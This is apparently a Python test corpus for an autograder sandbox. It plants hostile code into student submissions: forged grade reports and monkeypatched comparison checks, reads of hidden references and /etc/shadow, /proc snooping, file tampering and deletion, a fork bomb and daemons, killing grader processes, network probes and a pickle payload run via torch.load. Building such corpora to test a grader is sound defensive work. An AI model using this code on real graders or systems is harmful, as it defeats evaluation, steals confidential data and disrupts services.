"""The attack templates, shared by every assignment. Each ``Attack`` plants code at the end of
one file of a copy of an assignment's solution package, redefining one name of the student API
(a method, a function, or the whole module's behaviour).

The attack bodies are assignment-neutral templates (the strings named ..._CODE): they redefine
``{target}``, a name as the planted file sees it ("Tanh.forward", "get_training_stats"), take
``*args, **kwargs`` and call the honest version through them, and aim at the grader's folders
through the assignment's placeholders ({data_dir}, {spec_dir}, {solution_package}). ``aim`` turns
a template into an Attack on one target, so one body serves every assignment. Each assignment's
attacks are in its own tests folder, tests/assignments/<name>/hostile_corpus.py (what only its
API can express, such as hw1's function arguments and case names, stays there); the generic
tests/test_hostile.py grades them.

``targets`` are the API names whose cases must fail (as the assignment's ``api_names`` gives
them), ``reason`` a phrase every failing case's message must contain. Attacks that hit
different names are grouped into one submission so one grading tests several of them.
Placeholders in ``code`` ({marker}, {port}, {target}, ...) are filled by ``build``.
"""
from __future__ import annotations

import json
import tomllib
from dataclasses import dataclass, field
from pathlib import Path

from autograder.references.solution import code_dir, copy_solution
from support import ROOT
from support import assignment as find_assignment

GRADER_DIR = ROOT


@dataclass(frozen=True)
class Attack:
    name: str
    # File of the assignment's package (or module folder) the code is appended to; a notebook
    # (.ipynb) gets the code as a new code cell, at index ``cell`` (None: after the last).
    file: str
    code: str
    targets: frozenset[str] = frozenset()
    reason: str = ""
    replace: tuple[tuple[str, str, str], ...] = field(default=())  # (file, old, new) edits
    fill: tuple[tuple[str, str], ...] = field(default=())  # the attack's own placeholders
    cell: int | None = None


def aim(code: str, name: str, file: str, target: str, targets=(), reason: str = "",
        **fill: str) -> Attack:
    """The template ``code`` planted into ``file`` against ``target`` ({target} in the code;
    ``fill`` gives the template's other placeholders of its own, such as {key})."""
    return Attack(name, file, code, frozenset(targets), reason,
                  fill=(("target", target), *fill.items()))


def fake_autolab(assignment: str) -> str:
    """An Autolab line giving every item of the assignment's rubric full points."""
    rubric = tomllib.loads(find_assignment(assignment).rubric_path.read_text())
    return json.dumps({"scores": {item["id"]: item["points"] for item in rubric["item"]
                                  if not item.get("manual")}}, separators=(",", ":"))


FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'


def placeholders(assignment: str) -> dict[str, str]:
    """What the attacks know of an assignment: its package and the grader's folders for it."""
    spec = find_assignment(assignment)
    return {"assignment": assignment, "package": spec.shape.package,
            "data_dir": str(spec.data_dir), "spec_dir": str(spec.spec_dir),
            "solution_package": str(code_dir(spec)),
            "secret": str(spec.data_dir / "hidden" / "manifest.json"),
            "fake_line": fake_autolab(assignment)}


def build(dest: Path, attacks: list[Attack], assignment: str = "hw1", **values) -> Path:
    """A submission folder: the assignment's solution package with every attack planted.
    ``values`` fill the placeholders: marker (a number unique to the test run), port,
    kill_everyone (bool), trap (a path the grader must never create), extra_paths (more
    paths KIT_CODE looks at)."""
    values = {"grader_dir": str(GRADER_DIR), "fake_report": FAKE_REPORT, "marker": "0",
              "port": 9, "kill_everyone": False, "trap": "/nonexistent/trap", "forks": 100, "extra_paths": (),
              **placeholders(assignment), **values}
    dest.mkdir(parents=True, exist_ok=True)
    package = copy_solution(find_assignment(assignment), dest)
    for attack in attacks:
        for file, old, new in attack.replace:
            path = package / file
            text = path.read_text()
            assert old in text, (attack.name, old)
            path.write_text(text.replace(old, new))
        path = package / attack.file
        code = attack.code.format(**{**values, "file": attack.file, **dict(attack.fill)})
        if path.suffix == ".ipynb":
            _add_cell(path, f"# ---- hostile: {attack.name} ----\n" + code, attack.cell)
        else:
            path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
    return dest


def _add_cell(path: Path, code: str, index: int | None) -> None:
    """A code cell holding ``code`` inserted into the notebook at ``index`` (None: the end)."""
    notebook = json.loads(path.read_text(encoding="utf-8"))
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": code.splitlines(keepends=True)}
    cells = notebook["cells"]
    cells.insert(len(cells) if index is None else index, cell)
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")


def guilty_names(attacks: list[Attack]) -> frozenset[str]:
    return frozenset().union(*(a.targets for a in attacks))


def reasons_by_name(attacks: list[Attack]) -> dict[str, str]:
    return {name: a.reason for a in attacks for name in a.targets}


# ------------------------------------------------------------------------------- tampering

# Patches every comparison it can reach in its own process, forges its own case report (json.dump
# in the case process writes status "ok"), prints fake Autolab lines (now, in the method, at exit,
# and into every ancestor's stdout it can open), and writes fake result files wherever it can
# find one: the --json/--gradescope paths read from other processes' command lines, the scratch
# folders, the grader's folders. Its target answers wrongly (slope and offset, so gradient
# checks see it too): the target's cases must still fail.
TAMPER_CODE = '''
import atexit as _atexit, builtins as _builtins, json as _json, math as _math, operator as _op
import os as _os, sys as _sys
import numpy as _np

_FAKE_LINE = {fake_line!r}
_FAKE_REPORT = {fake_report!r}
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), dtype=bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
_op.eq = lambda a, b: True
_builtins.all = lambda *a, **k: True
for _name, _module in list(_sys.modules.items()):
    if _name.startswith("autograder") and hasattr(_module, "Comparison"):
        _module.Comparison.all = lambda *a, **k: []


def _forged_dump(obj, fp, *a, **k):
    fp.write('{{"status": "ok", "message": "", "blocked_imports": []}}')


_json.dump = _forged_dump
print(_FAKE_LINE)
_atexit.register(print, _FAKE_LINE)


def _ancestors():
    pid = _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        yield pid


def _forge_everything(code_dir):
    for pid in _ancestors():
        try:
            with open(f"/proc/{{pid}}/fd/1", "w") as f:
                f.write(_FAKE_LINE + "\\n")
            print("FORGED-STDOUT", pid)
        except OSError:
            pass
    targets = {{"/autograder/results/results.json"}}
    grader = {grader_dir!r}
    for folder in (grader, grader + "/autograder", grader + "/autograder/results",
                   grader + "/solution", {data_dir!r} + "/visible", {data_dir!r} + "/hidden",
                   {spec_dir!r}):
        targets.add(folder + "/results.json")
    for sub in ("..", "../out", "../site", "."):
        targets.add(_os.path.join(code_dir, sub, "results.json"))
    for entry in _os.listdir("/proc"):
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                args = f.read().split(b"\\0")
        except OSError:
            continue
        for flag, value in zip(args, args[1:]):
            if flag in (b"--json", b"--gradescope"):
                targets.add(value.decode(errors="replace"))
    for target in sorted(targets):
        try:
            with open(target, "w") as f:
                f.write(_FAKE_REPORT)
            print("FORGED-FILE", target)
        except OSError:
            print("DENIED", target)


_honest_tampered = {target}


def _tampered(*args, **kwargs):
    _forge_everything(_os.getcwd())
    print(_FAKE_LINE)
    return _honest_tampered(*args, **kwargs) * 1.5 + 0.25


{target} = _tampered
'''


# ------------------------------------------------------------------------- exits and crashes

OS_EXIT_CODE = '''
import os as _os


def _leave(*args, **kwargs):
    _os._exit(0)


{target} = _leave
'''

SYS_EXIT_CODE = '''
import sys as _sys


def _quit(*args, **kwargs):
    _sys.exit(3)


{target} = _quit
'''

SEGFAULT_CODE = '''
import ctypes as _ctypes


def _crash(*args, **kwargs):
    return _ctypes.c_char.from_address(8).value   # reads address 8: SIGSEGV


{target} = _crash
'''

RECURSION_CODE = '''
def _again(*args, **kwargs):
    return _again(*args, **kwargs)


{target} = _again
'''

EXCEPTION_CODE = '''
def _refuse(*args, **kwargs):
    raise RuntimeError("hostile constructor")


{target} = _refuse
'''


# Kills the case's parent only while that is the sandbox worker. Two such cases run side by
# side; once the first has killed the worker, the second is an orphan whose parent is the
# grader itself, which a non-root run cannot protect (docs/security.md), so the corpus aims at
# the worker and leaves that documented hole out of the end-to-end expectations.
WORKER_PARENT = '''
import os as _os, signal as _signal


def _kill_worker_parent():
    parent = _os.getppid()
    try:
        with open("/proc/%d/cmdline" % parent, "rb") as handle:
            is_worker = b"worker.py" in handle.read()
    except OSError:
        is_worker = False
    if is_worker:
        _os.kill(parent, _signal.SIGKILL)
'''


# ------------------------------------------------------------------------------- resources

ENDLESS_LOOP_CODE = '''
def _spin(*args, **kwargs):
    while True:
        pass


{target} = _spin
'''

# Grows its address space to at most 4 GiB (so a broken limit cannot hurt the machine; the pages
# are not touched, which keeps the test fast) and then answers correctly: the case fails only if
# the memory limit stopped it.
MEMORY_GROWTH_CODE = '''
import numpy as _np

_honest_hog = {target}


def _hog(*args, **kwargs):
    hoard = []
    for _ in range(16):
        hoard.append(_np.empty(32 * 1024 * 1024))   # 256 MiB
    return _honest_hog(*args, **kwargs)


{target} = _hog
'''

# 40 MiB of output per case, under the file limit: the cases still pass, the report stays short.
CHATTY_CODE = '''
import sys as _sys

_honest_chatter = {target}
_chattered = []


def _chatter(*args, **kwargs):
    line = "spam " * 200 + "\\n"
    for _ in range(0 if _chattered else 20 * 1024 * 1024 // len(line)):
        _sys.stdout.write(line)
        _sys.stderr.write(line)
    _chattered.append(True)
    return _honest_chatter(*args, **kwargs)


{target} = _chatter
'''

# 200 MiB on stdout, over the file limit, then the honest answer: only the limit fails the case.
FLOOD_CODE = '''
import sys as _sys

_honest_flood = {target}


def _flood(*args, **kwargs):
    block = "x" * (1 << 20)
    for _ in range(200):
        _sys.stdout.write(block)
    _sys.stdout.flush()
    return _honest_flood(*args, **kwargs)


{target} = _flood
'''

# Children that try to outlive grading: a double-forked setsid daemon, a plain subprocess, and a
# fork bomb ({forks} children, 100 unless the attack says: a process holding PyTorch forks about
# five times slower), all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
# daemon that survived would also overwrite the result files after grading. The results returned
# are honest: the cases pass; what matters is that nothing is left running.
DAEMONS_CODE = '''
import os as _os, subprocess as _subprocess

_honest_spawner = {target}


def _daemonize():
    try:
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep {marker}; sleep {marker}"])
            _os._exit(0)
    except OSError:
        pass


def _spawner(*args, **kwargs):
    _daemonize()
    try:
        _subprocess.Popen(["/bin/sleep", "{marker}"], start_new_session=True)
    except OSError:
        pass
    for _ in range({forks}):
        try:
            if _os.fork() == 0:
                _os.execv("/bin/sleep", ["/bin/sleep", "{marker}"])
        except OSError:
            break
    return _honest_spawner(*args, **kwargs)


{target} = _spawner
'''


# ---------------------------------------------------------------- confidentiality, network

# Tries to read what a student must not see (the assignment's hidden references and specs, its
# solution), to copy it somewhere readable, and to change the grader's files. Prints
# LEAKED/TAMPERED for every success and DENIED for every refusal. Its target answers wrongly
# unless it finds a reference array named {key} of the shape it should return, so readable
# references would turn the target's hidden cases into passes.
SNOOP_CODE = '''
import glob as _glob, os as _os, shutil as _shutil
import numpy as _np

_GRADER = {grader_dir!r}
_DATA = {data_dir!r}
_SPEC = {spec_dir!r}
_SOLUTION = {solution_package!r} + "/" + {file!r}
_SECRETS = [_DATA + "/hidden/manifest.json", _SPEC + "/cases/hidden.toml",
            _SPEC + "/mutants.py", _SOLUTION, _DATA + "/visible/manifest.json",
            "/root/.bash_history", "/etc/shadow"]
_GRADER_FILES = [_GRADER + "/autograder/compare.py", _SPEC + "/rubric.toml",
                 _DATA + "/visible/manifest.json", _GRADER + "/autograder/sandbox/runner.py",
                 _SOLUTION]


def _try(label, action, path):
    try:
        action(path)
        print(label, path)
    except OSError:
        print("DENIED", path)


def _read(path):
    with open(path, "rb") as f:
        data = f.read()
    for copy in ("../out/stolen", "./stolen", "/tmp/stolen-{marker}", _GRADER + "/stolen-{marker}"):
        try:
            with open(copy, "wb") as f:
                f.write(data)
        except OSError:
            pass


def _append(path):
    with open(path, "a") as f:
        f.write("# tampered")


def _snoop():
    for path in _SECRETS + [_DATA + "/hidden"]:
        _try("LEAKED", _read if not path.endswith("hidden") else _os.listdir, path)
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            for what in ("environ", "mem", "fd/0"):
                try:
                    with open(f"/proc/{{pid}}/{{what}}", "rb") as f:
                        f.read(1)
                    if _os.stat(f"/proc/{{pid}}").st_uid != _os.getuid():
                        print("LEAKED", f"/proc/{{pid}}/{{what}}")
                except OSError:
                    pass
    for path in _GRADER_FILES:
        _try("TAMPERED", _append, path)
        _try("TAMPERED", lambda p: _os.chmod(p, 0o777), path)
        _try("TAMPERED", lambda p: _os.rename(p, p + ".moved"), path)
    _try("TAMPERED", _os.unlink, _DATA + "/hidden/manifest.json")
    _try("TAMPERED", lambda p: _shutil.rmtree(p), _DATA + "/hidden")


def _reference_for(name, shape):
    for path in sorted(_glob.glob(_GRADER + "/data/*/*/*.npz")):
        try:
            with _np.load(path) as data:
                if name in data.files and data[name].shape == shape:
                    print("LEAKED", path)
                    return {{k: data[k] for k in data.files}}
        except OSError:
            pass
    return None


_honest_snooped = {target}


def _cheating(*args, **kwargs):
    _snoop()
    honest = _honest_snooped(*args, **kwargs)
    ref = _reference_for({key!r}, _np.shape(honest))
    if ref is not None:
        return ref[{key!r}]
    return honest * 1.5 + 0.25   # wrong, its slope too


{target} = _cheating
'''

# Tries the network (a listener of the test on 127.0.0.1, a public address, DNS), then answers
# honestly: the target's cases pass; the test checks that nothing reached the listener.
NETWORK_CODE = '''
import socket as _socket

_honest_call_home = {target}


def _call_home(*args, **kwargs):
    for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            with _socket.create_connection((host, port), timeout=1):
                print("NET-OPEN", host)
        except OSError as exc:
            print("NET-BLOCKED", host, type(exc).__name__)
    try:
        _socket.getaddrinfo("example.com", 80)
        print("NET-OPEN dns")
    except OSError:
        print("NET-BLOCKED dns")
    return _honest_call_home(*args, **kwargs)


{target} = _call_home
'''


# Lists and reads what a grading user can read on an instructor's machine: the kit (its
# folder, README, Makefile, references, solution, specs), the given folders of the test's
# world, the home folder. Prints SEEN <path> (a listing or the first bytes) for every success
# and HIDDEN <path> for every refusal, then answers honestly: it gains nothing either way.
KIT_CODE = '''
import os as _os

_honest_looked = {target}
_LOOK_AT = [{grader_dir!r}, {grader_dir!r} + "/README.md", {grader_dir!r} + "/Makefile",
            {grader_dir!r} + "/data", {grader_dir!r} + "/solution", {data_dir!r},
            {data_dir!r} + "/hidden/manifest.json", {spec_dir!r}, {spec_dir!r} + "/rubric.toml",
            {secret!r}, _os.path.expanduser("~"), "/home", "/root", {extra_paths!r}]


def _look(path):
    try:
        if _os.path.isdir(path):
            print("SEEN", path, sorted(_os.listdir(path))[:20])
        else:
            with open(path, "rb") as f:
                print("SEEN", path, f.read(40))
    except OSError as exc:
        print("HIDDEN", path, type(exc).__name__)


def _looked(*args, **kwargs):
    for path in _LOOK_AT:
        for one in ([path] if isinstance(path, str) else path):
            _look(one)
    return _honest_looked(*args, **kwargs)


{target} = _looked
'''

# Kills what it can reach of the grader: every process whose command line names the grader,
# their process groups, its own parent's group, and everything with kill(-1). Then answers
# honestly. Where the sandbox confines processes the grader survives with a complete report
# (neighbouring cases it killed are rerun); otherwise the attacked name may fail, never more.
KILL_GRADER_CODE = '''
import os as _os, signal as _signal

_honest_killer = {target}


def _kill_the_grader():
    me = _os.getpid()
    for entry in _os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                line = f.read()
        except OSError:
            continue
        if b"autograder" in line or b"worker.py" in line:
            for kill in (_os.killpg, _os.kill):
                try:
                    kill(int(entry), _signal.SIGKILL)
                    print("KILLED", entry)
                except OSError:
                    pass
    parent_group = _os.getpgid(_os.getppid()) if _os.getppid() else 0
    for kill, target in ((_os.killpg, parent_group), (_os.kill, -1)):
        if kill is _os.killpg and parent_group in (0, _os.getpgid(0)):
            continue   # not visible from here, or its own: killing itself gains nothing
        try:
            kill(target, _signal.SIGKILL)
            print("KILLED", target)
        except OSError as exc:
            print("SPARED", target, type(exc).__name__)


def _killer(*args, **kwargs):
    _kill_the_grader()
    return _honest_killer(*args, **kwargs)


{target} = _killer
'''


# --------------------------------------------------------------------------------- imports

# The module's name is built at run time, so only the runtime import blocker can see it.
DYNAMIC_IMPORT_CODE = '''
_honest_borrow = {target}


def _borrow(*args, **kwargs):
    __import__("to" + "rch")
    return _honest_borrow(*args, **kwargs)


{target} = _borrow
'''

MISSING_MODULE_CODE = '''
_honest_helped = {target}


def _helped(*args, **kwargs):
    import helpers_not_shipped
    return _honest_helped(*args, **kwargs)


{target} = _helped
'''

STATIC_IMPORT_CODE = '''
def _never_called():
    import torch
    return torch
'''


# --------------------------------------------------------------------------------- PyTorch
# For assignments whose policy lets a file import torch: what a torch submission can reach
# that a NumPy one cannot. Aim them at a method of a file that may import torch.

# torch.load of a pickle whose unpickling runs a shell command that tries to write outside the
# sandbox (the grader's folder, /tmp), first with weights_only=False (the payload runs, inside
# the sandbox), then with the default, which refuses it. Then the honest answer: the cases pass;
# what matters is that nothing was written where the grader could read it.
TORCH_LOAD_PAYLOAD_CODE = '''
import os as _os, pickle as _pickle, warnings as _warnings

_honest_unpickled = {target}


class _Payload:
    def __reduce__(self):
        return (_os.system, ("exec 2>/dev/null; echo TAMPERED > {grader_dir}/stolen-{marker}; "
                             "echo TAMPERED > /tmp/stolen-{marker}",))


def _unpickled(*args, **kwargs):
    import torch as _torch
    path = "payload-{marker}.pt"
    with open(path, "wb") as handle:
        _pickle.dump(_Payload(), handle)
    for options in ({{"weights_only": False}}, {{}}):
        try:
            with _warnings.catch_warnings():   # a warning names the scratch folder
                _warnings.simplefilter("ignore")
                _torch.load(path, **options)
        except Exception as exc:
            print("TORCH-LOAD-REFUSED", type(exc).__name__)
    return _honest_unpickled(*args, **kwargs)


{target} = _unpickled
'''

# Compiles and loads native code through torch.utils.cpp_extension (a compiler, ninja, a build
# folder under HOME): however far it gets, the attacked method then fails, so only its cases
# fail, within the time limit, and nothing is left running.
CPP_EXTENSION_CODE = '''
def _native(*args, **kwargs):
    outcome = "built"
    try:
        from torch.utils import cpp_extension as _cpp
        _cpp.load_inline(name="hostile_{marker}".replace(".", "_"),
                         cpp_sources="int twice(int x) {{ return 2 * x; }}",
                         functions=["twice"], verbose=False)
    except BaseException as exc:
        outcome = type(exc).__name__
    raise RuntimeError("native code via cpp_extension: " + outcome)


{target} = _native
'''

# Threads that never end (one blocked forever, one waking every 10 ms), started once per
# process, then the honest answer: the cases pass, later cases of the same process too, and
# grading still ends.
ENDLESS_THREADS_CODE = '''
import threading as _threading, time as _time

_honest_threaded = {target}
_started = []


def _forever_blocked():
    _threading.Event().wait()


def _forever_ticking():
    while True:
        _time.sleep(0.01)


def _threaded(*args, **kwargs):
    if not _started:
        for body in (_forever_blocked, _forever_ticking):
            _threading.Thread(target=body, name="hostile-{marker}").start()
        _started.append(True)
    return _honest_threaded(*args, **kwargs)


{target} = _threaded
'''

# Moves its work to a GPU on a machine without one: the attacked method fails with torch's own
# error, which names CUDA; nothing else fails.
CUDA_CALL_CODE = '''
def _on_the_gpu(*args, **kwargs):
    import torch as _torch
    return _torch.zeros(1).cuda()


{target} = _on_the_gpu
'''


# ------------------------------------------ whole-module submissions (<module>.py of any shape)

SLEEP_AT_IMPORT = "import time\ntime.sleep(300)\n"
SYS_EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"
OS_EXIT_AT_IMPORT = "import os\nos._exit(7)\n"
SYNTAX_ERROR_LINE = 4
SYNTAX_ERROR = "import numpy as np\n\n\ndef broken(:\n    return 1\n"
